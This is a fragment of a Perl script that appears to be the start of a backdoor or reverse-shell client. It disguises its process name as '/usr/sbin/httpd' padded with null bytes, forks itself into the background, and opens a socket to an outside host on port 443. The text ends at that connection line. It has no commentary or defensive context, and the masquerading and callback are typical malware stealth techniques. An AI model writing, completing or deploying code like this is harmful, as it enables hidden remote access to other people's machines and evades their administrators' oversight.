#!/usr/bin/perl
use IO::Socket;
my $fake = "/usr/sbin/httpd";
$0 = "$fake" . "\0" x 16;
my $pid = fork;
exit 0 if $pid;
my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.5:443");
